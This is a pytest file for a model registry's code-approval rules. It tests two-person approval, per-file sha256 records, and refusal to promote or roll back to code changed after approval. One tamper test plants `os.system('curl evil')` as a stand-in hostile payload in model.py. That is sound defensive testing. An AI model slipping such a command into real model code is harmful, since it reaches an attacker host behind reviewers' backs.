"""Approving code: a second person, who uploaded none of the code (through config changes too);
the approval records who, when and every file's sha256; changed code can no longer be promoted."""

from __future__ import annotations

import hashlib
import io
from pathlib import Path

import pytest

from repository.errors import (
    ApprovedCodeChangedError,
    CodeUploaderApprovalError,
    SelfApprovalError,
)
from repository.models import Event, ModelVersion, VersionFile, VersionState
from repository.selectors import model_version_allowed_actions
from repository.services import (
    model_rollback,
    model_version_approve,
    model_version_create_from_upload,
    model_version_create_with_config,
    model_version_promote,
)
from tests.factories import BlobFactory, UserFactory
from tests.repository.archives import make_zip

pytestmark = [pytest.mark.django_db, pytest.mark.embedded]

CONFIG = b'name: "py"\nbackend: "python"\n'
MODEL_PY = b"class TritonPythonModel:\n    def execute(self, requests):\n        return []\n"
LABELS = b"cat\ndog\n"


@pytest.fixture(autouse=True)
def isolated_storage(settings, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    settings.UPLOAD_DIR = tmp_path / "uploads"


@pytest.fixture
def third_admin(db):  # type: ignore[no-untyped-def]
    return UserFactory(username="third-admin", role="admin")


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def upload_code(user, model_py: bytes = MODEL_PY) -> ModelVersion:  # type: ignore[no-untyped-def]
    archive = make_zip({"config.pbtxt": CONFIG, "1/model.py": model_py, "labels.txt": LABELS})
    version = model_version_create_from_upload(
        model_name="py", uploaded_by=user, archive=io.BytesIO(archive), archive_name="py.zip"
    )
    ModelVersion.objects.filter(pk=version.pk).update(state=VersionState.READY)
    version.refresh_from_db()
    return version


def config_change(version: ModelVersion, user) -> ModelVersion:  # type: ignore[no-untyped-def]
    new = model_version_create_with_config(
        version=version, config_text=CONFIG.decode() + "max_batch_size: 4\n", uploaded_by=user
    )
    ModelVersion.objects.filter(pk=new.pk).update(state=VersionState.READY)
    new.refresh_from_db()
    return new


def test_approval_records_who_when_and_the_sha256_of_every_file(
    registry_admin, second_admin
) -> None:  # type: ignore[no-untyped-def]
    version = upload_code(registry_admin)
    approved = model_version_approve(version=version, actor=second_admin)
    approved.refresh_from_db()
    code = {"files": {"model.py": sha(MODEL_PY)}, "model_files": {"labels.txt": sha(LABELS)}}
    assert approved.approved_by == second_admin and approved.approved_at is not None
    assert approved.approved_code == code
    event = Event.objects.get(action="approve")
    assert (event.actor, event.to_version) == (second_admin, 1)
    assert event.detail == {"source": "review", **code}


def test_upload_records_its_uploader_as_the_codes_uploader(deployer) -> None:  # type: ignore[no-untyped-def]
    version = upload_code(deployer)
    assert list(version.code_uploaders.all()) == [deployer]


def test_config_change_keeps_the_codes_uploaders_so_they_cannot_approve_the_copy(  # type: ignore[no-untyped-def]
    registry_admin, deployer, second_admin
) -> None:
    original = upload_code(registry_admin)
    copy = config_change(original, deployer)
    assert copy.uploaded_by == deployer
    assert list(copy.code_uploaders.all()) == [registry_admin]
    with pytest.raises(CodeUploaderApprovalError) as raised:
        model_version_approve(version=copy, actor=registry_admin)
    assert raised.value.code == "code_uploader_approval"
    assert raised.value.extra == {"model": "py", "version": 2, "user": registry_admin.username}
    copy.refresh_from_db()
    assert not copy.approved and not Event.objects.filter(action="approve").exists()
    model_version_approve(version=copy, actor=second_admin)
    copy.refresh_from_db()
    assert copy.approved_by == second_admin


def test_uploaders_carry_through_a_chain_of_config_changes(  # type: ignore[no-untyped-def]
    registry_admin, deployer, second_admin, third_admin
) -> None:
    original = upload_code(registry_admin)
    last = config_change(config_change(original, deployer), second_admin)
    assert last.number == 3
    with pytest.raises(CodeUploaderApprovalError):
        model_version_approve(version=last, actor=registry_admin)
    with pytest.raises(SelfApprovalError):  # the config's author is its uploader
        model_version_approve(version=last, actor=second_admin)
    model_version_approve(version=last, actor=third_admin)


def test_approve_action_is_not_offered_to_the_codes_uploader(
    registry_admin, deployer, second_admin
) -> None:  # type: ignore[no-untyped-def]
    copy = config_change(upload_code(registry_admin), deployer)
    assert not model_version_allowed_actions(version=copy, user=registry_admin)["approve"]
    assert model_version_allowed_actions(version=copy, user=second_admin)["approve"]


def tamper(version: ModelVersion, path: str, content: bytes) -> None:
    """Point a file row at other content behind the registry's back (as a hostile write to the
    database would): no service, no event, no revision bump."""
    VersionFile.objects.filter(version=version, path=path).update(blob=BlobFactory(content=content))


def test_promote_refuses_a_version_whose_code_changed_after_approval(  # type: ignore[no-untyped-def]
    registry_admin, second_admin, deployer
) -> None:
    version = model_version_approve(version=upload_code(registry_admin), actor=second_admin)
    tamper(version, "model.py", b"import os; os.system('curl evil')\n")
    with pytest.raises(ApprovedCodeChangedError) as raised:
        model_version_promote(version=version, actor=deployer)
    assert raised.value.code == "approved_code_changed"
    assert raised.value.extra["changed"] == ["model.py"]
    version.refresh_from_db()
    assert version.state == VersionState.READY


def test_an_added_model_level_file_also_counts_as_changed_code(
    registry_admin, second_admin, deployer
) -> None:  # type: ignore[no-untyped-def]
    version = model_version_approve(version=upload_code(registry_admin), actor=second_admin)
    VersionFile.objects.create(
        version=version, path="helper.py", blob=BlobFactory(content=b"x=1"), model_level=True
    )
    with pytest.raises(ApprovedCodeChangedError, match=r"\.\./helper\.py"):
        model_version_promote(version=version, actor=deployer)


def test_rollback_refuses_to_return_to_changed_code(registry_admin, second_admin, deployer) -> None:  # type: ignore[no-untyped-def]
    v1 = model_version_approve(version=upload_code(registry_admin), actor=second_admin)
    model_version_promote(version=v1, actor=deployer)
    v2 = model_version_approve(version=config_change(v1, deployer), actor=second_admin)
    model_version_promote(version=v2, actor=deployer)
    tamper(v1, "model.py", b"print('changed')\n")
    with pytest.raises(ApprovedCodeChangedError):
        model_rollback(model=v2.model, actor=deployer)
    v2.refresh_from_db()
    assert v2.state == VersionState.PROMOTED
